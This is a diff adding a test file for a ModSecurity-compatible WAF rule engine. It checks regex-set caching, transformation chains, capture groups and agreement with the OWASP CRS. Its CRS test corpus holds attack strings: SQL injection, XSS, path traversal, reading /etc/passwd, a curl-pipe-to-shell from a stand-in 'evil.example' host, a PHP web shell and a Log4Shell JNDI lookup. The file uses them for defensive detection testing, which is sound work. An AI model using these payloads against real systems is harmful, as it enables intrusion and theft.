@@ -1,0 +1,242 @@
+/**
+ * The rule engine's per-request shortcuts keep ModSecurity's results: the rule set's RE2.Set answers as each
+ * rule's own regex would (checked on the installed CRS over attacks and ordinary values), a transformed value is
+ * remembered per chain without leaking into other chains, `capture` fills TX:0-9 for the rule that reads them, and
+ * the set's bounded cache falls back to the rules' own regexes when the set cannot answer.
+ */
+import { existsSync } from 'node:fs';
+import { describe, expect, test } from 'vitest';
+import { type CompiledRuleSet, compileRuleSet, Transaction } from './engine.js';
+import { CRS_PATH } from './kind.js';
+import { loadRe2, type RegexSet, RegexSetMatcher } from './regex.js';
+import { parseBody } from './request.js';
+import { emptyRuleSet, parseFile, parseText } from './seclang/parse.js';
+
+const hasRe2 = loadRe2() !== null;
+
+function compile(text: string, regexSet = true): CompiledRuleSet {
+  const set = emptyRuleSet();
+  parseText(text, 'test.conf', set);
+  expect(set.unsupported).toEqual([]);
+  const c = compileRuleSet(set, () => true, { regexSet });
+  expect(c.problems).toEqual([]);
+  return c;
+}
+
+function run(rules: CompiledRuleSet, target: string, opts: { body?: string; ct?: string; pl?: string } = {}) {
+  const q = target.indexOf('?');
+  const headers: Record<string, string> = {
+    host: 'api.example.com',
+    'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
+    accept: 'application/json',
+  };
+  if (opts.body !== undefined) {
+    headers['content-type'] = opts.ct ?? 'application/json';
+    headers['content-length'] = String(Buffer.byteLength(opts.body));
+  }
+  const pl = opts.pl ?? '1';
+  const tx = new Transaction(
+    rules,
+    {
+      method: opts.body === undefined ? 'GET' : 'POST',
+      rawTarget: target,
+      path: q < 0 ? target : target.slice(0, q),
+      query: q < 0 ? '' : target.slice(q + 1),
+      protocol: 'HTTP/1.1',
+      headers,
+      remoteAddr: '203.0.113.9',
+    },
+    'On',
+    new Map([
+      ['paranoia_level', pl],
+      ['executing_paranoia_level', pl],
+      ['inbound_anomaly_score_threshold', '5'],
+    ]),
+  );
+  tx.runPhase(1);
+  if (opts.body !== undefined) tx.setBody(parseBody(Buffer.from(opts.body), headers['content-type']!));
+  tx.runPhase(2);
+  return tx;
+}
+
+const outcome = (tx: Transaction) => ({
+  matched: tx.matched.map((m) => `${m.id} ${m.variable}`),
+  score: tx.get('anomaly_score'),
+  blocked: tx.interruption?.ruleId,
+});
+
+describe('engine', () => {
+  test('one value through rules with different transformation chains: each chain sees its own form', () => {
+    for (const regexSet of [true, false]) {
+      const rules = compile(
+        [
+          `SecRule ARGS:q "@rx ^<script>$" "id:1,phase:2,pass,log,msg:'lowercase',t:none,t:lowercase"`,
+          `SecRule ARGS:q "@rx ^<SCRIPT>$" "id:2,phase:2,pass,log,msg:'as is',t:none"`,
+          `SecRule ARGS:q "@rx ^<script>$" "id:3,phase:2,pass,log,msg:'as is, lowercase pattern',t:none"`,
+          `SecRule ARGS:q "@rx ^<script>$" "id:4,phase:2,pass,log,msg:'again lowercase',t:none,t:lowercase"`,
+          `SecRule ARGS:q "@rx ^%3cscript%3e$" "id:5,phase:2,pass,log,msg:'urlencoded',t:none,t:urlEncode,t:lowercase"`,
+        ].join('\n'),
+        regexSet,
+      );
+      const tx = run(rules, '/x?q=%3CSCRIPT%3E');
+      expect(tx.matched.map((m) => m.id)).toEqual([1, 2, 4, 5]);
+    }
+  });
+
+  test('capture fills TX:0-9 for a chained rule, and from the latest capturing rule', () => {
+    const rules = compile(
+      [
+        `SecRule ARGS:a "@rx ^(\\w+)-(\\d+)$" "id:10,phase:2,pass,capture,chain,log,msg:'chained'"`,
+        `  SecRule TX:2 "@eq 42" "setvar:tx.seen=%{tx.1}"`,
+        `SecRule ARGS:b "!@rx ^(zzz)$" "id:11,phase:2,pass,capture,nolog"`,
+        `SecRule ARGS:c "@rx ^(c+)$" "id:12,phase:2,pass,capture,nolog"`,
+        `SecRule TX:1 "@streq ccc" "id:13,phase:2,pass,log,msg:'latest capture'"`,
+      ].join('\n'),
+    );
+    const tx = run(rules, '/x?a=order-42&b=xyz&c=ccc');
+    expect(tx.get('seen')).toBe('order');
+    expect(tx.matched.map((m) => m.id)).toEqual([10, 13]);
+    const none = run(rules, '/x?a=order-41');
+    expect(none.get('seen')).toBeUndefined();
+  });
+
+  test('exclusions apply to their collection only; counting and key selectors read the same entries', () => {
+    const rules = compile(
+      [
+        `SecRule ARGS|REQUEST_COOKIES|!REQUEST_COOKIES:/^_ga/|!ARGS:skip "@rx evil" "id:20,phase:2,pass,log,msg:'m'"`,
+        `SecRule &ARGS "@eq 3" "id:21,phase:2,pass,log,msg:'three args'"`,
+        `SecRule ARGS:/^ke/ "@rx evil" "id:22,phase:2,pass,log,msg:'by key regex'"`,
+      ].join('\n'),
+    );
+    const tx = run(rules, '/x?skip=evil&keep=evil&other=fine');
+    expect(tx.matched.map((m) => `${m.id} ${m.variable}`)).toEqual([
+      '20 ARGS:keep',
+      '21 &ARGS',
+      '22 ARGS:keep',
+    ]);
+  });
+
+  test('what depends on the body is read again in phase 2; what was read before it stays', () => {
+    const rules = compile(
+      [
+        `SecRule &ARGS "@eq 1" "id:40,phase:1,pass,log,msg:'query only'"`,
+        `SecRule &REQBODY_PROCESSOR "@eq 0" "id:41,phase:1,pass,log,msg:'no body yet'"`,
+        `SecRule REQUEST_HEADERS:Accept "@rx json" "id:42,phase:1,pass,log,msg:'header'"`,
+        `SecRule &ARGS "@eq 3" "id:43,phase:2,pass,log,msg:'query and body'"`,
+        `SecRule REQBODY_PROCESSOR "@streq JSON" "id:44,phase:2,pass,log,msg:'json'"`,
+        `SecRule ARGS:json.a "@rx ^evil$" "id:45,phase:2,pass,log,msg:'body arg'"`,
+        `SecRule REQUEST_HEADERS:Accept "@rx json" "id:46,phase:2,pass,log,msg:'header again'"`,
+      ].join('\n'),
+    );
+    const tx = run(rules, '/x?q=1', { body: JSON.stringify({ a: 'evil', b: 2 }) });
+    expect(tx.matched.map((m) => m.id)).toEqual([40, 41, 42, 43, 44, 45, 46]);
+  });
+
+  test('the set cache answers a value once, stays bounded, and falls back when the set cannot answer', () => {
+    let calls = 0;
+    const fake: RegexSet = {
+      match(s) {
+        calls++;
+        if (s === 'boom') throw new Error('RE2.Set matching failed: out of memory.');
+        return s.includes('x') ? [0] : [];
+      },
+    };
+    const m = new RegexSetMatcher(fake, 1, 4, 8);
+    expect(m.match('axb')).toEqual([0]);
+    expect(m.match('axb')).toEqual([0]);
+    expect(calls).toBe(1);
+    expect(m.match('boom')).toBeNull();
+    // Longer than cacheableLength: asked each time.
+    m.match('long value here');
+    m.match('long value here');
+    expect(calls).toBe(4);
+    // Two generations of 4: after 8 other values, the first one is forgotten and asked again.
+    for (let i = 0; i < 8; i++) m.match(`v${i}`);
+    const before = calls;
+    m.match('axb');
+    expect(calls).toBe(before + 1);
+  });
+
+  test.skipIf(!hasRe2)('a rule falls back to its own regex when the set cannot answer', () => {
+    const rules = compile(`SecRule ARGS "@rx ^a+b$" "id:30,phase:2,pass,log,msg:'m'"`);
+    const broken = {
+      ...rules,
+      regexSet: new RegexSetMatcher(
+        {
+          match() {
+            throw new Error('RE2.Set matching failed: out of memory.');
+          },
+        },
+        rules.regexSet!.size,
+      ),
+    };
+    expect(run(broken, '/x?v=aaab').matched.map((m) => m.id)).toEqual([30]);
+    expect(run(broken, '/x?v=aaac').matched).toEqual([]);
+  });
+});
+
+describe.skipIf(!existsSync(CRS_PATH) || !hasRe2)('engine on the OWASP CRS', () => {
+  const load = (regexSet: boolean) => {
+    const set = emptyRuleSet();
+    parseText(
+      [
+        'SecDefaultAction "phase:1,log,auditlog,pass"',
+        'SecDefaultAction "phase:2,log,auditlog,pass"',
+        'SecAction "id:900990,phase:1,nolog,pass,t:none,setvar:tx.crs_setup_version=334"',
+      ].join('\n'),
+      '<setup>',
+      set,
+    );
+    parseFile(CRS_PATH, set);
+    return compileRuleSet(set, () => true, { regexSet });
+  };
+  const withSet = load(true);
+  const without = load(false);
+
+  test('the RE2.Set gives every rule the answer its own regex gives (same matches, scores, verdicts)', () => {
+    expect(withSet.regexSet).toBeDefined();
+    const values = [
+      "1' OR '1'='1",
+      '1 UNION SELECT username, password FROM users--',
+      '<script>alert(1)</script>',
+      '<img src=x onerror=alert(1)>',
+      '../../etc/passwd',
+      ';cat /etc/passwd',
+      '$(curl http://evil.example/x.sh|sh)',
+      "<?php system($_GET['c']); ?>",
+      '${jndi:ldap://evil.example/a}',
+      'java.lang.Runtime.getRuntime().exec("id")',
+      'coffee shops near me',
+      'Zürich Straße café',
+      "Conan O'Brien",
+      'https://example.com/a?b=c&d=e',
+      'const total = items.reduce((a, b) => a + b.price, 0);',
+    ];
+    let blocked = 0;
+    const seen = new Set<number>();
+    for (const pl of ['1', '2']) {
+      for (const v of values) {
+        const e = encodeURIComponent(v);
+        const cases: [string, { body?: string; ct?: string; pl: string }][] = [
+          [`/api/items?id=${e}`, { pl }],
+          [`/api/items?${e}=1`, { pl }],
+          ['/api/form', { body: `a=1&text=${e}`, ct: 'application/x-www-form-urlencoded', pl }],
+          ['/api/json', { body: JSON.stringify({ post: { text: v }, list: [v, 'x'] }), pl }],
+        ];
+        for (const [target, opts] of cases) {
+          // Twice: the second run answers from the set's cache.
+          for (let i = 0; i < 2; i++) {
+            const a = outcome(run(withSet, target, opts));
+            expect(a, `${target} ${opts.body ?? ''}`).toEqual(outcome(run(without, target, opts)));
+            if (a.blocked !== undefined) blocked++;
+            for (const m of a.matched) seen.add(Number(m.split(' ')[0]));
+          }
+        }
+      }
+    }
+    // The corpus does block, by the regex rules of each family (the comparison is not between two engines that
+    // see nothing).
+    expect(blocked).toBeGreaterThan(60);
+    for (const id of [930100, 932100, 933100, 941110, 942100, 942190, 949110]) expect(seen).toContain(id);
+  });
+});
